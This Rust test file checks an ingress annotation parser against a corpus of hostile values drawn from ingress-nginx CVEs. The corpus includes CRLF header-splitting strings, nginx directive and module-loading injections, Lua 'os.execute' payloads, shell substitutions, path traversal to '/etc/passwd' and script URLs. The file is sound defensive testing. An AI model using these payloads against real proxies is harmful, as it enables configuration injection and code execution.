//! The injection corpus: hostile values applied to every string-valued annotation (and, through
//! the variables, to request paths and headers). Each value is either refused with a problem,
//! or parses into a typed value that provably cannot carry CR, LF or NUL into a header, break
//! out of its place in a URL, or be anything but data.
//!
//! ingress-nginx's CVEs (CVE-2021-25742, CVE-2023-5043, CVE-2025-1974, ...) came from values
//! like these being pasted into nginx.conf; here there is no configuration text to paste into,
//! and this test shows what becomes of them instead. Snippets get the same values, raw and
//! inside each directive of the translated header subset.

use std::collections::BTreeMap;

use super::grammar::Value;
use super::*;

/// Values from the ingress-nginx CVE reports and the usual injection tricks.
fn corpus() -> Vec<String> {
    let mut values: Vec<String> = [
        "\n",
        "a\nb",
        "a\r\nX-Injected: 1",
        "\r\n\r\nHTTP/1.1 200 OK",
        "\0",
        "a\0b",
        "true\0",
        "1m\n",
        ";",
        "a;b",
        "; ssl_engine /tmp/evil.so;",
        "load_module /tmp/evil.so;",
        "ssl_engine",
        "} location / { return 200 pwned; } #",
        "{}",
        "{",
        "\"",
        "'",
        "`",
        "\\",
        "a\"; deny all; #",
        "content_by_lua_block { os.execute(\"id\") }",
        "access_by_lua 'os.execute(\"id\")'",
        "#",
        "$(id)",
        "${IFS}id",
        "$host;return 302 https://evil.example",
        "$request_uri\nproxy_pass http://evil.example;",
        "https://evil.example/\r\nSet-Cookie: a=b",
        "https://a.example/$request_uri\n",
        "http://a.example/ ssl_engine x",
        "https://a.example/?x=${http_x}\"",
        "https://evil.example@good.example/",
        "https://good.example\\@evil.example/",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "//evil.example",
        "/path;ssl_engine x",
        "/a b",
        "/../../../etc/passwd",
        "/%0d%0aSet-Cookie:%20x",
        "/\u{202e}evil",
        "\u{200b}",
        "\u{feff}true",
        "\u{2028}",
        "\u{85}",
        "ｔｒｕｅ",
        "true\u{301}",
        "10.0.0.0/8\nallow all;",
        "10.0.0.0/8;allow all",
        "ALL:!aNULL;ssl_engine x",
        "x-a,x-b\r\nx-c",
        "$remote_addr$http_x_evil",
        "*",
        "*.example.com",
        "%",
        "%zz",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    values.push("a".repeat(MAX_VALUE_BYTES + 1));
    values.push(format!("https://a.example/{}", "x".repeat(MAX_VALUE_BYTES)));
    values
}

/// Request values an attacker controls, for expanding accepted templates.
fn hostile_request() -> StaticVars {
    let evil = "\r\nSet-Cookie: pwned=1\0\"'<>{}|\\^` /../#?&=%";
    StaticVars(vec![
        (Var::Scheme, "https".into()),
        (Var::Host, "app.example.com".into()),
        (Var::HttpHost, evil.into()),
        (Var::RequestUri, format!("/p{evil}")),
        (Var::Uri, format!("/p{evil}")),
        (Var::Args, evil.into()),
        (Var::RemoteAddr, "192.0.2.1".into()),
        (Var::Header("x".into()), evil.into()),
        (Var::Header("x-evil".into()), evil.into()),
        (Var::Cookie("c".into()), evil.into()),
        (Var::ServiceName, "web".into()),
        (Var::Namespace, "shop".into()),
        (Var::Capture(1), format!("..{evil}")),
        (Var::Capture(2), evil.into()),
    ])
}

/// Nothing a header value or URL could be broken with.
fn assert_no_breakout(what: &str, text: &str) {
    assert!(
        !text.chars().any(|c| c.is_control()
            || matches!(
                c,
                '\u{200b}' | '\u{2028}' | '\u{2029}' | '\u{202e}' | '\u{feff}'
            )),
        "{what}: {text:?} carries a control or invisible character"
    );
}

/// The typed result of an accepted value is inert: checked per kind.
fn assert_inert(key: &str, raw: &str, value: &Value) {
    let what = format!("{key}={raw:?}");
    match value {
        Value::Bool(_)
        | Value::Duration(_)
        | Value::Size(_)
        | Value::Int(_)
        | Value::Enum(_)
        | Value::Cidrs(_)
        | Value::Statuses(_) => {}
        Value::Template(template) => {
            let out = match template.expand(&hostile_request()) {
                Ok(out) => out,
                // Refusing to build a host from hostile text is the safe answer.
                Err(ExpandError::InvalidHost { .. } | ExpandError::EmptyHost) => return,
            };
            assert_no_breakout(&what, &out);
            match template.kind() {
                TemplateKind::Url | TemplateKind::Rewrite => assert!(
                    out.bytes()
                        .all(|b| b.is_ascii_graphic() && !b"\"<>\\^`{|}".contains(&b)),
                    "{what}: expanded to {out:?}"
                ),
                TemplateKind::Host => assert!(
                    out.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b".-_:[]".contains(&b)),
                    "{what}: expanded to {out:?}"
                ),
                TemplateKind::HeaderValue => {}
            }
            if template.kind() == TemplateKind::Url {
                // The scheme and host are the template's own.
                assert!(out.starts_with(template.scheme()), "{what}: {out}");
            }
        }
        // Compared with a request's header value (or matched as a regex), never written
        // anywhere: printable text is all that matters.
        Value::Text(text)
            if key.ends_with("canary-by-header-value")
                || key.ends_with("canary-by-header-pattern") =>
        {
            assert_no_breakout(&what, text);
        }
        Value::Text(text) => {
            assert_no_breakout(&what, text);
            // Realms go into a quoted-string, paths and cookie attributes are unquoted: none
            // may hold a quote, a backslash, or (paths, names, domains) a ';' or whitespace.
            assert!(!text.contains(['"', '\\']), "{what}");
            if !key.ends_with("auth-realm") {
                assert!(!text.contains([';', ' ', ',', '{', '}']), "{what}");
            }
        }
        Value::List(items) | Value::Origins(items) => {
            for item in items {
                assert_no_breakout(&what, item);
                // RFC 7230 tokens (header names, methods) or scheme://host[:port] origins: no
                // separator, quote or whitespace that could end a header or start another.
                assert!(
                    !item.contains([';', ' ', ',', '"', '\\', '{', '}', '(', ')', '<', '>', '@']),
                    "{what}: item {item:?}"
                );
            }
        }
        Value::Secret(namespace, name) => {
            for part in namespace.iter().chain(std::iter::once(name)) {
                assert!(
                    part.bytes().all(|b| b.is_ascii_lowercase()
                        || b.is_ascii_digit()
                        || b"-.".contains(&b)),
                    "{what}"
                );
            }
        }
        Value::Ciphers(selection) => {
            for element in &selection.not_honoured {
                assert_no_breakout(&what, element);
                assert!(!element.contains([';', '{', '}', '"']), "{what}");
            }
        }
    }
}

#[test]
fn hostile_values_are_refused_or_inert() {
    let corpus = corpus();
    let mut refused = 0;
    let mut accepted = 0;
    for spec in TABLE {
        for prefix in [SLUICE_PREFIX, NGINX_PREFIX] {
            let key = format!("{prefix}{}", spec.key);
            for raw in &corpus {
                let parsed = parse_annotations(&BTreeMap::from([(key.clone(), raw.clone())]));
                let rejected = parsed
                    .problems
                    .iter()
                    .any(|p| p.key == key && p.severity != Severity::Ignored);
                // Every message is one printable line, whatever the value.
                for problem in &parsed.problems {
                    assert_no_breakout(&key, &problem.message());
                }
                match spec.grammar.parse(raw) {
                    Err(_) => {
                        assert!(
                            rejected,
                            "{key}={raw:?} refused by its grammar but not reported"
                        );
                        refused += 1;
                    }
                    Ok(value) => {
                        assert!(!rejected, "{key}={raw:?}");
                        assert_inert(&key, raw, &value);
                        accepted += 1;
                    }
                }
                // Admission refuses with the parser's own message, or lets through what only the
                // data plane can judge.
                if let Some(message) = admission::verdict(&key, raw) {
                    assert!(
                        parsed.problems.iter().any(|p| p.message() == message),
                        "{key}={raw:?}"
                    );
                }
            }
        }
    }
    // The corpus is hostile: nearly everything is refused outright.
    assert!(
        refused > 10 * accepted,
        "{refused} refused, {accepted} accepted"
    );
}

#[test]
fn hostile_keys_do_not_reach_messages() {
    // The API server admits only qualified names as keys; the parser does not rely on it.
    let annotations: BTreeMap<String, String> = [
        "sluice.dev/x\r\nInjected: 1",
        "nginx.ingress.kubernetes.io/\u{202e}kcatta",
        "sluice.dev/limit-rps\0",
    ]
    .iter()
    .map(|k| ((*k).to_owned(), "1".to_owned()))
    .collect();
    let parsed = parse_annotations(&annotations);
    assert_eq!(parsed.problems.len(), 3);
    for problem in &parsed.problems {
        assert_no_breakout(&problem.key, &problem.message());
        assert_eq!(problem.severity, Severity::Ignored);
    }
}

#[test]
fn hostile_paths_through_every_template_key() {
    // Ingress paths reach templates as $uri, $request_uri and capture groups: the accepted
    // templates of real configurations, expanded for hostile requests, stay inside their place.
    let templates = [
        ("permanent-redirect", "https://new.example.com$request_uri"),
        ("permanent-redirect", "https://new.example.com$uri?$args"),
        (
            "auth-url",
            "https://$host/oauth2/auth?uri=$escaped_request_uri",
        ),
        (
            "auth-signin",
            "https://auth.example.com/start?rd=$scheme://$http_host$request_uri",
        ),
        ("rewrite-target", "/$2"),
        ("rewrite-target", "/base/$1/$2?orig=$uri"),
        ("upstream-vhost", "$service_name.$namespace.svc"),
        ("upstream-vhost", "$http_x_evil"),
    ];
    for (key, source) in templates {
        let full = format!("{SLUICE_PREFIX}{key}");
        let parsed = parse_annotations(&BTreeMap::from([(full.clone(), source.to_owned())]));
        assert!(
            parsed
                .problems
                .iter()
                .all(|p| p.severity == Severity::Ignored),
            "{full}={source} should be accepted"
        );
        let spec = table::spec(key).expect("supported key");
        let value = spec.grammar.parse(source).expect("accepted");
        assert_inert(&full, source, &value);
    }
}

/// The header names a translated snippet may leave in its policies: lowercase tokens, no
/// framing or hop-by-hop header, a wildcard only as a trailing `*` after a non-empty prefix.
fn assert_header_name(what: &str, name: &str, host_allowed: bool) {
    let stem = name.strip_suffix('*').unwrap_or(name);
    assert!(
        !stem.is_empty()
            && stem.bytes().all(|b| {
                (b.is_ascii_graphic() && !b.is_ascii_uppercase())
                    && !b"\"(),/:;<=>?@[\\]{}*".contains(&b)
            }),
        "{what}: header name {name:?}"
    );
    let framing = [
        "content-length",
        "transfer-encoding",
        "connection",
        "upgrade",
        "te",
        "trailer",
        "keep-alive",
    ];
    assert!(
        !framing.contains(&name) && !name.starts_with("proxy-") && (host_allowed || name != "host"),
        "{what}: header name {name:?}"
    );
}

#[test]
fn hostile_snippets_are_refused_or_inert() {
    let wrappers: [fn(&str) -> String; 9] = [
        |v| v.to_owned(),
        |v| format!("more_set_headers \"X-A: {v}\";"),
        |v| format!("more_set_headers '{v}';"),
        |v| format!("add_header X-A '{v}' always;"),
        |v| format!("proxy_set_header X-B \"{v}\";"),
        |v| format!("proxy_set_header {v} y;"),
        |v| format!("more_clear_headers {v};\nmore_clear_input_headers {v};"),
        |v| format!("proxy_ssl_name \"{v}\";\nproxy_set_header Host {v};"),
        |v| format!("add_header X-C y;\n{v}\nadd_header X-D z;"),
    ];
    let mut refused = 0;
    let mut accepted = 0;
    for bare in table::SNIPPETS {
        for prefix in [SLUICE_PREFIX, NGINX_PREFIX] {
            let key = format!("{prefix}{bare}");
            for raw in corpus() {
                for wrap in wrappers {
                    let text = wrap(&raw);
                    let what = format!("{key}={text:?}");
                    let parsed = parse_annotations(&BTreeMap::from([(key.clone(), text.clone())]));
                    for problem in &parsed.problems {
                        assert_no_breakout(&what, &problem.message());
                    }
                    let headers = &parsed.policies.headers;
                    if !parsed.problems.is_empty() {
                        // All or nothing: a snippet with a problem applies nothing.
                        assert!(headers.is_empty(), "{what}");
                        refused += 1;
                        continue;
                    }
                    accepted += 1;
                    if !matches!(*bare, "configuration-snippet" | "server-snippet") {
                        // Only an empty auth, ModSecurity or stream snippet has no problem.
                        assert!(snippet::is_blank(&text), "{what}");
                    }
                    for (name, value) in &headers.request_set {
                        assert_header_name(&what, name, true);
                        assert_inert(&what, &text, &Value::Template(value.clone()));
                    }
                    for header in &headers.response_set {
                        assert_header_name(&what, &header.name, false);
                        assert_inert(&what, &text, &Value::Template(header.value.clone()));
                    }
                    for name in headers.request_clear.iter().chain(&headers.response_hide) {
                        assert_header_name(&what, name, false);
                    }
                    if let Some(tls) = &headers.upstream_tls_name {
                        assert_eq!(tls.kind(), TemplateKind::Host, "{what}");
                        assert_inert(&what, &text, &Value::Template(tls.clone()));
                    }
                }
            }
        }
    }
    // Most hostile snippets are refused; the header values that are accepted are data.
    assert!(
        refused > 2 * accepted,
        "{refused} refused, {accepted} accepted"
    );
}
